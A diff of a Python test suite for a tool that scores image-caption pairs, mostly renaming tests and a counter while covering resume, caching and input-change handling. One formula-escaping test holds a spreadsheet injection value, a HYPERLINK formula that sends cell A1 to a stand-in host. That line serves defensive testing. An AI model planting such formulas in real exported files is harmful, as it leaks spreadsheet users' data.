@@ -1,4 +1,4 @@
-"""Runs over files: every row kept, order kept, crashes survived, images read once."""
+"""Runs over files: order of rows, resume after crashes, images read once."""
 
 import csv
 import datetime
@@ -61,7 +61,7 @@ class Counting:
 
     def __init__(self, stop_after=None):
         self._toy = load_encoder("toy")
-        self.pictures = 0
+        self.images = 0
         self._stop_after = stop_after
 
     name = property(lambda self: self._toy.name)
@@ -73,16 +73,16 @@ class Counting:
         return self._toy.prepare(image)
 
     def encode_images(self, images):
-        if self._stop_after is not None and self.pictures >= self._stop_after:
+        if self._stop_after is not None and self.images >= self._stop_after:
             raise KeyboardInterrupt
-        self.pictures += len(images)
+        self.images += len(images)
         return self._toy.encode_images(images)
 
     def encode_texts(self, texts):
         return self._toy.encode_texts(texts)
 
 
-def test_rows_keep_their_order_and_columns_and_equal_the_scorer(tmp_path):
+def test_rows_have_their_order_and_columns_and_equal_the_scorer(tmp_path):
     path, lines = make_input(tmp_path)
     output = tmp_path / "out.parquet"
     summary = run(Scorer("toy"), path, output, part_rows=7)
@@ -102,10 +102,10 @@ def test_repeated_images_are_encoded_once(tmp_path):
     path, _ = make_input(tmp_path)
     encoder = Counting()
     run(Scorer(encoder), path, tmp_path / "out.parquet", part_rows=3)
-    assert encoder.pictures == len(COLOURS)
+    assert encoder.images == len(COLOURS)
 
 
-def test_an_interrupted_run_goes_on_and_gives_the_same_file(tmp_path):
+def test_resume_gives_identical_bytes(tmp_path):
     path, _ = make_input(tmp_path)
     whole, broken = tmp_path / "whole.jsonl", tmp_path / "broken.jsonl"
     run(Scorer("toy"), path, whole, part_rows=8)
@@ -114,11 +114,11 @@ def test_an_interrupted_run_goes_on_and_gives_the_same_file(tmp_path):
     assert not broken.exists()
     rest = Counting()
     run(Scorer(rest), path, broken, part_rows=8)
-    assert rest.pictures == 3
+    assert rest.images == 3
     assert broken.read_bytes() == whole.read_bytes()
 
 
-def test_a_second_run_over_finished_work_does_nothing(tmp_path):
+def test_finished_run_is_not_repeated(tmp_path):
     path, _ = make_input(tmp_path)
     output = tmp_path / "out.csv"
     first = run(Scorer("toy"), path, output)
@@ -126,7 +126,7 @@ def test_a_second_run_over_finished_work_does_nothing(tmp_path):
     idle = Counting()
     again = run(Scorer(idle), path, output)
     assert (again.rows, again.failed, again.scored, again.earlier) == (first.rows, first.failed, 0, 40)
-    assert idle.pictures == 0
+    assert idle.images == 0
     assert output.stat().st_mtime_ns == before
 
 
@@ -142,9 +142,9 @@ def test_changed_input_or_settings_are_rejected(tmp_path):
     assert run(Scorer("toy"), path, output, overwrite=True).rows == 40
 
 
-def test_bad_rows_say_why_and_the_rest_goes_on(tmp_path):
+def test_bad_rows_have_an_error_and_the_rest_is_scored(tmp_path):
     make_input(tmp_path)
-    (tmp_path / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 no picture")
+    (tmp_path / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 not an image")
     rows = [
         {"image": "red.png", "caption": "a red square"},
         {"image": "broken.jpg", "caption": "a dog"},
@@ -164,12 +164,12 @@ def test_bad_rows_say_why_and_the_rest_goes_on(tmp_path):
     assert errors[3] == "caption is empty"
     assert "has no words" in errors[4]
     assert results[5]["caption"] == rows[5]["caption"]
-    # A row that failed is no member of the candidate set of its image.
+    # A failed row is not part of the candidate set of its image.
     assert results[0]["uncertainty"] == 1.0
     assert [row["id"] for row in results] == [str(i) for i in range(7)]
 
 
-def test_groups_make_candidate_sets(tmp_path):
+def test_groups_are_candidate_sets(tmp_path):
     make_input(tmp_path)
     rows = [{"image": "red.png", "caption": c, "group": g} for c, g in [("red", "a"), ("blue", "b"), ("green", "a")]]
     path = tmp_path / "groups.jsonl"
@@ -213,7 +213,7 @@ def test_an_empty_input_gives_an_empty_output(tmp_path):
     assert set(COLUMNS) <= set(pq.read_table(tmp_path / "out.parquet").column_names)
 
 
-def test_an_input_without_one_readable_row_gives_a_reason_a_row(tmp_path):
+def test_input_without_readable_rows_has_an_error_per_row(tmp_path):
     for name, content in (("a.jsonl", b"no\n[1]\n"), ("b.csv", b'image,caption\nx,"never closed\ny,z\n')):
         (tmp_path / name).write_bytes(content)
         summary = run(Scorer("toy"), tmp_path / name, tmp_path / f"{name}.parquet")
@@ -223,7 +223,7 @@ def test_an_input_without_one_readable_row_gives_a_reason_a_row(tmp_path):
         assert all("not valid" in error or "expected an object" in error for error in table["error"].to_pylist())
 
 
-def test_the_input_and_foreign_files_are_never_overwritten(tmp_path):
+def test_input_and_foreign_files_are_never_overwritten(tmp_path):
     path, lines = make_input(tmp_path)
     (tmp_path / "link.jsonl").symlink_to(path)
     for output in (path, tmp_path / "link.jsonl"):
@@ -282,7 +282,7 @@ def test_kill_nine_loses_at_most_one_chunk(tmp_path):
     assert output.read_bytes() == clean.read_bytes()
 
 
-def test_images_that_vanish_during_a_run_are_scored_when_they_are_back(tmp_path, monkeypatch):
+def test_images_missing_during_a_run_are_scored_when_they_exist_again(tmp_path, monkeypatch):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / "out.jsonl", tmp_path / "clean.jsonl"
     run(Scorer("toy"), path, clean, part_rows=8)
@@ -300,14 +300,14 @@ def test_images_that_vanish_during_a_run_are_scored_when_they_are_back(tmp_path,
     with monkeypatch.context() as network:
         network.setattr("msdscore.run.plan.split_pairs", lose(plan_of_run.split_pairs))
         assert run(Scorer("toy"), path, output, part_rows=8).failed == 40
-    for picture in away.iterdir():
-        picture.rename(tmp_path / picture.name)
+    for image in away.iterdir():
+        image.rename(tmp_path / image.name)
     assert run(Scorer("toy"), path, output, part_rows=8).failed == 0
     assert output.read_bytes() == clean.read_bytes()
     assert run(Scorer("toy"), path, output, part_rows=8).scored == 0
 
 
-def test_parts_that_a_crash_after_the_output_left_behind_are_removed(tmp_path, monkeypatch):
+def test_leftover_parts_of_a_crash_are_removed(tmp_path, monkeypatch):
     path, _ = make_input(tmp_path)
     output = tmp_path / "out.jsonl"
     with monkeypatch.context() as crash:
@@ -328,21 +328,21 @@ SUFFIXES = [".parquet", ".jsonl", ".csv", ".tsv", ".json"]
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
-def test_an_image_replaced_behind_its_path_is_scored_again_and_no_other(tmp_path, suffix):
+def test_only_changed_images_are_scored_again(tmp_path, suffix):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / f"out{suffix}", tmp_path / f"clean{suffix}"
     run(Scorer("toy"), path, output, part_rows=8)
     Image.new("RGB", (48, 32), "orange").save(tmp_path / "red.png")
     counting = Counting()
     made = run(Scorer(counting), path, output, part_rows=8)
-    assert (counting.pictures, made.scored, made.earlier) == (1, 8, 32)
+    assert (counting.images, made.scored, made.earlier) == (1, 8, 32)
     run(Scorer("toy"), path, clean, part_rows=8)
     assert output.read_bytes() == clean.read_bytes()
     assert run(Scorer(counting), path, output, part_rows=8).scored == 0
 
 
 @pytest.mark.parametrize("suffix", ["parquet", "csv", "jsonl"])
-def test_the_least_supported_words_are_a_column_that_a_later_run_keeps(tmp_path, suffix):
+def test_worst_words_column_is_preserved_by_a_later_run(tmp_path, suffix):
     path, lines = make_input(tmp_path)
     scorer, output = Scorer("toy"), tmp_path / f"out.{suffix}"
     run(scorer, path, output, part_rows=8, worst=2)
@@ -356,7 +356,7 @@ def test_the_least_supported_words_are_a_column_that_a_later_run_keeps(tmp_path,
     first = words()
     explained = [scorer.explain(tmp_path / line["image"], line["caption"]).ranked[:2] for line in lines[:6]]
     assert first[:6] == [[word.text for word in ranked] for ranked in explained]
-    Image.new("RGB", (48, 32), "yellow").save(tmp_path / "red.png")  # the parts of other images are taken over
+    Image.new("RGB", (48, 32), "yellow").save(tmp_path / "red.png")  # the parts of other images are reused
     assert run(scorer, path, output, part_rows=8, worst=2).earlier > 0
     again = words()
     assert [own for own, line in zip(again, lines, strict=True) if line["image"] != "red.png"] == [
@@ -366,7 +366,7 @@ def test_the_least_supported_words_are_a_column_that_a_later_run_keeps(tmp_path,
         run(scorer, path, output, part_rows=8)
 
 
-def test_a_resumed_run_notices_a_replaced_image(tmp_path):
+def test_resumed_run_detects_a_changed_image(tmp_path):
     path, _ = make_input(tmp_path)
     output, clean = tmp_path / "out.jsonl", tmp_path / "clean.jsonl"
     with pytest.raises(KeyboardInterrupt):
@@ -374,27 +374,27 @@ def test_a_resumed_run_notices_a_replaced_image(tmp_path):
     Image.new("RGB", (48, 32), "orange").save(tmp_path / "red.png")
     rest = Counting()
     run(Scorer(rest), path, output, part_rows=8)
-    assert rest.pictures == 3  # two that were never scored, and the new one
+    assert rest.images == 3  # two unscored images, and the changed one
     run(Scorer("toy"), path, clean, part_rows=8)
     assert output.read_bytes() == clean.read_bytes()
 
 
-def test_failed_rows_are_tried_again_when_their_cause_is_gone(tmp_path):
+def test_failed_rows_are_retried_when_the_cause_is_fixed(tmp_path):
     path, _ = make_input(tmp_path)
     whole, output = tmp_path / "whole.parquet", tmp_path / "out.parquet"
     run(Scorer("toy"), path, whole, part_rows=8)
     (tmp_path / "red.png").rename(tmp_path / "away.png")
-    (tmp_path / "blue.png").write_bytes(b"no picture")
+    (tmp_path / "blue.png").write_bytes(b"not an image")
     first = run(Scorer("toy"), path, output, part_rows=8)
     assert first.failed == 16
     assert [reason[:6] for reason in first.reasons] == ["row 0:", "row 2:", "row 5:"]
     assert "red.png: no such file" in first.reasons[0]
     idle = Counting()
     assert run(Scorer(idle), path, output, part_rows=8).reasons == first.reasons
-    assert idle.pictures == 0  # nothing has changed: nothing is tried
+    assert idle.images == 0  # nothing changed: no retry
     (tmp_path / "away.png").rename(tmp_path / "red.png")
     some = run(Scorer(idle), path, output, part_rows=8)
-    assert (idle.pictures, some.failed, some.scored) == (1, 8, 8)
+    assert (idle.images, some.failed, some.scored) == (1, 8, 8)
     again = run(Scorer(idle), path, output, part_rows=8, retry=True)
     assert (again.failed, again.scored) == (8, 8)
     Image.new("RGB", (48, 32), "blue").save(tmp_path / "blue.png")
@@ -402,9 +402,9 @@ def test_failed_rows_are_tried_again_when_their_cause_is_gone(tmp_path):
     assert pq.read_table(output).equals(pq.read_table(whole))
 
 
-def test_images_found_by_id_may_come_later(tmp_path):
+def test_images_found_by_id_may_be_added_later(tmp_path):
     make_input(tmp_path)
-    folder = tmp_path / "pictures"
+    folder = tmp_path / "images"
     folder.mkdir()
     rows = [{"image_id": i % 20, "caption": f"number {i}"} for i in range(60)]
     path, output = tmp_path / "ids.json", tmp_path / "out.jsonl"
@@ -421,7 +421,7 @@ def test_images_found_by_id_may_come_later(tmp_path):
         Image.new("RGB", (32, 32), (0, 9 * i, 0)).save(folder / f"{i}.png")
     counting = Counting()
     made = score(counting, output)
-    assert (made.failed, counting.pictures) == (24, 4)  # the two, and their neighbours in two chunks
+    assert (made.failed, counting.images) == (24, 4)  # both, and their neighbours in two parts
     score("toy", tmp_path / "clean.jsonl")
     assert output.read_bytes() == (tmp_path / "clean.jsonl").read_bytes()
 
@@ -435,7 +435,7 @@ def test_a_finished_run_does_not_load_the_encoder(tmp_path, monkeypatch):
     with open_rows(path) as source:
         again = score_rows(spec, source, output)
         assert (again.rows, again.scored, again.earlier, again.signature) == (40, 0, 40, first.signature)
-        with pytest.raises(pytest.fail.Exception):  # other settings need the encoder to tell what differs
+        with pytest.raises(pytest.fail.Exception):  # other settings need the encoder to report the difference
             score_rows(ScorerSpec(encoder="toy", changes={"kappa": 30.0}), source, output)
     Image.new("RGB", (48, 32), "orange").save(tmp_path / "red.png")
     with open_rows(path) as source, pytest.raises(pytest.fail.Exception):
@@ -449,7 +449,7 @@ ODD = [
 ]
 
 
-def test_json_rows_keep_every_value_as_it_was(tmp_path):
+def test_json_rows_preserve_all_values(tmp_path):
     make_input(tmp_path)
     path = tmp_path / "odd.jsonl"
     path.write_text("\n".join(map(json.dumps, ODD)))
@@ -464,7 +464,7 @@ def test_json_rows_keep_every_value_as_it_was(tmp_path):
 
 
 @pytest.mark.parametrize("suffix", [".parquet", ".csv", ".tsv"])
-def test_tables_keep_clashing_columns_under_another_name(tmp_path, suffix):
+def test_clashing_columns_are_renamed(tmp_path, suffix):
     make_input(tmp_path)
     path = tmp_path / "odd.jsonl"
     path.write_text("\n".join(map(json.dumps, ODD)))
@@ -478,7 +478,7 @@ def test_tables_keep_clashing_columns_under_another_name(tmp_path, suffix):
     assert rows[2]["input_msd"] == "also mine"
 
 
-def test_a_late_column_that_is_called_as_ours_is_reported_and_kept(tmp_path):
+def test_clashing_column_of_a_later_row_is_renamed_and_reported(tmp_path):
     make_input(tmp_path)
     path, output = tmp_path / "late.jsonl", tmp_path / "out.jsonl"
     plain = [{"image": "red.png", "caption": f"red {i}", **({"msd": i} if i == 0 else {})} for i in range(40)]
@@ -495,7 +495,7 @@ def test_a_late_column_that_is_called_as_ours_is_reported_and_kept(tmp_path):
     ("given", "expected"),
     [([7, None, None], [7, 1, 2]), (["a", None, ""], ["a", "1", "2"]), ([None, None, None], ["0", "1", "2"])],
 )
-def test_rows_without_an_id_have_their_number(tmp_path, given, expected):
+def test_rows_without_id_get_their_index(tmp_path, given, expected):
     make_input(tmp_path)
     rows = [
         {**({} if i == 1 or name is None else {"id": name}), "image": "red.png", "caption": "red"}
@@ -513,7 +513,7 @@ def test_rows_without_an_id_have_their_number(tmp_path, given, expected):
         assert pq.read_table(tmp_path / "out.parquet")["id"].to_pylist() == expected
 
 
-def test_numbers_that_json_does_not_have_are_reported(tmp_path):
+def test_nan_and_infinity_in_json_are_reported(tmp_path):
     make_input(tmp_path)
     lines = ['{"image": "red.png", "caption": "Infinity pool", "loss": NaN, "box": [1, -Infinity]}']
     lines += ['{"image": "red.png", "caption": "NaN"}', '{"image": "red.png", "caption": "e999", "loss": 1e308}']
@@ -551,10 +551,10 @@ def test_infinities_of_tables_are_reported_and_missing_numbers_are_not(tmp_path)
     assert "NaN" not in told[3]
     (tmp_path / "odd.csv").write_text("image,caption,loss\nred.png,red,1e999\n")
     run(Scorer("toy"), tmp_path / "odd.csv", tmp_path / "text.jsonl")
-    assert read_rows(tmp_path / "text.jsonl")[0]["loss"] == "1e999"  # a text stays as it is written
+    assert read_rows(tmp_path / "text.jsonl")[0]["loss"] == "1e999"  # text is not changed
 
 
-def test_a_prefix_leaves_the_input_unchanged(tmp_path):
+def test_prefix_avoids_clashing_columns(tmp_path):
     make_input(tmp_path)
     path, output = tmp_path / "odd.jsonl", tmp_path / "out.parquet"
     path.write_text("\n".join(map(json.dumps, [*ODD, {"image": "gone.png", "caption": "x"}])))
@@ -568,7 +568,7 @@ def test_a_prefix_leaves_the_input_unchanged(tmp_path):
         run(Scorer("toy"), path, output)
 
 
-def test_parquet_keeps_the_types_of_its_columns(tmp_path):
+def test_parquet_preserves_column_types(tmp_path):
     make_input(tmp_path)
     schema = pa.schema(
         [
@@ -600,7 +600,7 @@ def test_integers_too_wide_for_floats_stay_exact_across_tables(tmp_path, monkeyp
 
 
 @pytest.mark.parametrize("most", [0, 9000])
-def test_rows_that_memory_does_not_hold_lie_in_a_file(tmp_path, monkeypatch, most):
+def test_rows_beyond_the_memory_limit_are_stored_in_a_file(tmp_path, monkeypatch, most):
     path, _ = make_input(tmp_path)
     monkeypatch.setattr("msdscore.run.table.TABLE_ROWS", 7)
     run(Scorer("toy"), path, tmp_path / "kept.parquet")
@@ -609,7 +609,7 @@ def test_rows_that_memory_does_not_hold_lie_in_a_file(tmp_path, monkeypatch, mos
     assert pq.read_table(tmp_path / "again.parquet") == pq.read_table(tmp_path / "kept.parquet")
 
 
-def test_groups_of_several_images_are_warned_of_and_counted(tmp_path):
+def test_groups_with_several_images_are_warned_about(tmp_path):
     make_input(tmp_path)
     rows = [
         {"image": "red.png", "caption": "red", "group": "a"},
@@ -632,7 +632,7 @@ def test_groups_of_several_images_are_warned_of_and_counted(tmp_path):
     assert (first["warnings"][:9], last["warnings"]) == ("its group", "")
 
 
-def test_candidate_sets_are_worked_on_in_pieces_that_split_none():
+def test_chunks_do_not_split_candidate_sets():
     noise = np.random.RandomState(0)
     group, rows = noise.randint(0, 40, 300), np.sort(noise.choice(300, 200, replace=False))
     for most in (1, 7, 50, 1000):
@@ -644,7 +644,7 @@ def test_candidate_sets_are_worked_on_in_pieces_that_split_none():
     assert list(whole_sets(group, rows[:0], most=3)) == []
 
 
-def test_the_first_rows_wait_for_few_others_and_later_ones_are_looked_at_together():
+def test_windows_of_rows_grow():
     read = []
 
     def rows():
@@ -680,7 +680,7 @@ def replace_input(path, how):
 
 @pytest.mark.parametrize("how", ["reversed", "inserted", "edited", "cut"])
 @pytest.mark.parametrize("moment", ["scoring", "assembling"])
-def test_an_input_replaced_during_a_run_is_rejected_with_nothing_lost(tmp_path, monkeypatch, how, moment):
+def test_input_changed_during_a_run_is_rejected_and_parts_are_saved(tmp_path, monkeypatch, how, moment):
     path, _ = make_input(tmp_path)
     output, original = tmp_path / "out.jsonl", path.read_bytes()
     replaced = []
@@ -698,13 +698,13 @@ def test_an_input_replaced_during_a_run_is_rejected_with_nothing_lost(tmp_path, 
     path.write_bytes(original)
     rest = Counting()
     run(Scorer(rest), path, output, part_rows=8)
-    assert rest.pictures == 0
+    assert rest.images == 0
     run(Scorer("toy"), path, tmp_path / "clean.jsonl", part_rows=8)
     assert output.read_bytes() == (tmp_path / "clean.jsonl").read_bytes()
 
 
 @pytest.mark.parametrize("name", ["rows.csv", "rows.json", "rows.parquet"])
-def test_other_formats_replaced_during_a_run_are_rejected_too(tmp_path, name):
+def test_other_formats_changed_during_a_run_are_rejected(tmp_path, name):
     _, lines = make_input(tmp_path)
     path, output = tmp_path / name, tmp_path / "out.parquet"
 
@@ -720,8 +720,8 @@ def test_other_formats_replaced_during_a_run_are_rejected_too(tmp_path, name):
     assert not output.exists()
 
 
-def test_parts_of_another_state_of_the_input_are_scored_again(tmp_path):
-    """The input was another one for a while: its fingerprint is the same before and after."""
+def test_parts_of_another_version_of_the_input_are_scored_again(tmp_path):
+    """The input was temporarily replaced: its fingerprint is the same before and after."""
     path, _ = make_input(tmp_path)
     output, original = tmp_path / "out.jsonl", path.read_bytes()
     with open_rows(path) as source:
@@ -734,8 +734,8 @@ def test_parts_of_another_state_of_the_input_are_scored_again(tmp_path):
     assert output.read_bytes() == (tmp_path / "clean.jsonl").read_bytes()
 
 
-def test_rows_read_while_the_input_was_another_one_are_rejected(tmp_path):
-    """Changed before it is read, put back before it is compared; one that is only touched is the same."""
+def test_rows_of_a_temporarily_replaced_input_are_rejected(tmp_path):
+    """Changed before it is read and restored before it is compared; a touched input is unchanged."""
     path, _ = make_input(tmp_path)
     output, original = tmp_path / "out.jsonl", path.read_bytes()
 
@@ -752,20 +752,20 @@ def test_rows_read_while_the_input_was_another_one_are_rejected(tmp_path):
     assert run(Scorer("toy"), path, output, part_rows=8, progress=lambda done, total: os.utime(path)).rows == 40
 
 
-def test_an_image_of_equal_size_and_time_is_noticed(tmp_path):
+def test_changed_image_with_equal_size_and_time_is_detected(tmp_path):
     path, _ = make_input(tmp_path)
     for colour in COLOURS:
         Image.new("RGB", (48, 32), colour).save(tmp_path / f"{colour}.png", format="BMP")
-    output, picture = tmp_path / "out.jsonl", tmp_path / "red.png"
+    output, image = tmp_path / "out.jsonl", tmp_path / "red.png"
     run(Scorer("toy"), path, output, part_rows=8)
-    before = picture.stat()
-    Image.new("RGB", (48, 32), "orange").save(picture, format="BMP")
-    os.utime(picture, ns=(before.st_atime_ns, before.st_mtime_ns))
-    assert (picture.stat().st_size, picture.stat().st_mtime_ns) == (before.st_size, before.st_mtime_ns)
+    before = image.stat()
+    Image.new("RGB", (48, 32), "orange").save(image, format="BMP")
+    os.utime(image, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert (image.stat().st_size, image.stat().st_mtime_ns) == (before.st_size, before.st_mtime_ns)
     assert run(Scorer("toy"), path, output, part_rows=8).scored == 8
 
 
-def test_an_image_replaced_during_a_run_is_scored_again_by_the_next_one(tmp_path):
+def test_image_changed_during_a_run_is_scored_again_by_the_next_run(tmp_path):
     path, _ = make_input(tmp_path)
     output, image, replaced = tmp_path / "out.jsonl", tmp_path / "red.png", []
 
@@ -774,7 +774,7 @@ def test_an_image_replaced_during_a_run_is_scored_again_by_the_next_one(tmp_path
             replaced.append(done)
             Image.new("RGB", (48, 32), "orange").save(tmp_path / "new.png")
             (tmp_path / "new.png").replace(image)
-            os.utime(tmp_path / "blue.png")  # what is only touched is not changed
+            os.utime(tmp_path / "blue.png")  # a touched file is unchanged
 
     run(Scorer("toy"), path, output, part_rows=100, progress=replace_once)
     assert run(Scorer("toy"), path, output, part_rows=100).scored == 40
@@ -783,19 +783,19 @@ def test_an_image_replaced_during_a_run_is_scored_again_by_the_next_one(tmp_path
     assert run(Scorer("toy"), path, output, part_rows=100).scored == 0
 
 
-def test_large_images_are_known_by_their_content_on_request(tmp_path, monkeypatch):
+def test_verify_identifies_large_images_by_content(tmp_path, monkeypatch):
     monkeypatch.setattr("msdscore.io.hashing.HASHED_BYTES", 10)
     path, _ = make_input(tmp_path)
-    output, picture = tmp_path / "out.jsonl", tmp_path / "red.png"
-    Image.new("RGB", (48, 32), "red").save(picture, format="BMP")
+    output, image = tmp_path / "out.jsonl", tmp_path / "red.png"
+    Image.new("RGB", (48, 32), "red").save(image, format="BMP")
     run(Scorer("toy"), path, output, part_rows=8, verify=True)
-    before = picture.stat()
-    Image.new("RGB", (48, 32), "orange").save(picture, format="BMP")
-    os.utime(picture, ns=(before.st_atime_ns, before.st_mtime_ns))
+    before = image.stat()
+    Image.new("RGB", (48, 32), "orange").save(image, format="BMP")
+    os.utime(image, ns=(before.st_atime_ns, before.st_mtime_ns))
     assert run(Scorer("toy"), path, output, part_rows=8, verify=True).scored == 8
 
 
-def test_a_key_is_that_of_the_bytes_that_were_decoded_and_each_file_is_read_once(tmp_path, monkeypatch):
+def test_files_are_read_once_and_hashed_from_the_decoded_bytes(tmp_path, monkeypatch):
     path, _ = make_input(tmp_path)
     read, real = [], Path.read_bytes
     monkeypatch.setattr(Path, "read_bytes", lambda file: read.append(file.name) or real(file))
@@ -809,7 +809,7 @@ def test_a_key_is_that_of_the_bytes_that_were_decoded_and_each_file_is_read_once
 
 @pytest.mark.parametrize("verify", [False, True])
 @pytest.mark.parametrize("most", [10, 1000])
-def test_the_stamp_of_a_content_is_that_of_its_file(tmp_path, monkeypatch, verify, most):
+def test_stamp_of_bytes_equals_the_stamp_of_the_file(tmp_path, monkeypatch, verify, most):
     monkeypatch.setattr("msdscore.io.hashing.HASHED_BYTES", most)
     file = tmp_path / "a.bin"
     file.write_bytes(b"a" * 100)
@@ -835,7 +835,7 @@ def test_a_tar_replaced_during_a_run_over_one_file_is_rejected(tmp_path):
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a disk that is always full")
-def test_a_full_temporary_folder_is_a_one_line_error_and_the_run_goes_on(tmp_path, monkeypatch):
+def test_full_temporary_folder_is_a_one_line_error_and_the_run_resumes(tmp_path, monkeypatch):
     full, (path, _) = Path("/dev/full"), make_input(tmp_path)
     run(Scorer("toy"), path, tmp_path / "whole.parquet")
     with monkeypatch.context() as patch:
@@ -846,7 +846,7 @@ def test_a_full_temporary_folder_is_a_one_line_error_and_the_run_goes_on(tmp_pat
     assert (tmp_path / "scores.parquet").read_bytes() == (tmp_path / "whole.parquet").read_bytes()
 
 
-def test_times_of_nanoseconds_stay_as_they_are(tmp_path):
+def test_nanosecond_timestamps_are_preserved(tmp_path):
     (_, rows), nanoseconds = make_input(tmp_path, rows=3), [1_700_000_000_123_456_789, None, 7]
     table = pa.Table.from_pylist(rows)
     kinds = {
@@ -867,14 +867,14 @@ def test_times_of_nanoseconds_stay_as_they_are(tmp_path):
 
 @pytest.mark.parametrize("depth", [64, 300, 960])
 @pytest.mark.parametrize("suffix", ["parquet", "jsonl", "csv"])
-def test_a_value_nested_very_deep_stops_no_run(tmp_path, depth, suffix):
+def test_deeply_nested_value_does_not_stop_a_run(tmp_path, depth, suffix):
     (path, _), deep = make_input(tmp_path, rows=3), "[" * depth + "]" * depth
     lines = path.read_text().splitlines()
     lines[1] = f'{lines[1][:-1]}, "extra": {deep}}}'
     path.write_text("\n".join(lines))
     result = run(Scorer("toy"), path, tmp_path / f"out.{suffix}")
     assert result.rows == 3
-    if depth == 960:  # near the limit of Python's parser, which depends on the caller: a failed row, or text
+    if depth == 960:  # near the recursion limit of Python's parser, which depends on the stack: a failed row, or text
         assert result.failed <= 1
         return
     assert result.failed == 0
@@ -883,7 +883,7 @@ def test_a_value_nested_very_deep_stops_no_run(tmp_path, depth, suffix):
     assert values[1]["extra"] == deep
 
 
-def test_an_input_deleted_during_a_run_is_named_and_not_the_output(tmp_path):
+def test_input_deleted_during_a_run_is_reported(tmp_path):
     path, _ = make_input(tmp_path, rows=4)
 
     def delete(done, total):
@@ -894,13 +894,13 @@ def test_an_input_deleted_during_a_run_is_named_and_not_the_output(tmp_path):
         run(Scorer("toy"), path, tmp_path / "out.parquet", progress=delete)
 
 
-def test_a_prefix_is_printable(tmp_path):
+def test_prefix_must_be_printable(tmp_path):
     with pytest.raises(ConfigError, match=r"a prefix must be printable.* got '\\n'"):
         RunOptions(prefix="\n")
 
 
 @pytest.mark.parametrize("suffix", ["csv", "tsv"])
-def test_formulas_are_text_for_a_spreadsheet_on_request(tmp_path, suffix):
+def test_excel_safe_escapes_formulas(tmp_path, suffix):
     path, rows = make_input(tmp_path, rows=3)
     formula = '=HYPERLINK("http://x.invalid/?"&A1,"dog")'
     rows[0] |= {"=note": formula, "less": -3}
@@ -927,7 +927,7 @@ def test_formulas_are_text_for_a_spreadsheet_on_request(tmp_path, suffix):
 
 
 @pytest.mark.parametrize("kind", [pa.timestamp("ms"), pa.timestamp("s", tz="UTC"), pa.date32(), pa.duration("s")])
-def test_times_that_python_does_not_have_stay_as_they_are(tmp_path, kind):
+def test_times_outside_of_the_python_range_are_preserved(tmp_path, kind):
     _, rows = make_input(tmp_path, rows=3)
     far = pa.array([2**31 - 1 if kind == pa.date32() else 2**45, None, 7])
     far = far.cast(pa.int32() if kind == pa.date32() else pa.int64()).cast(kind)
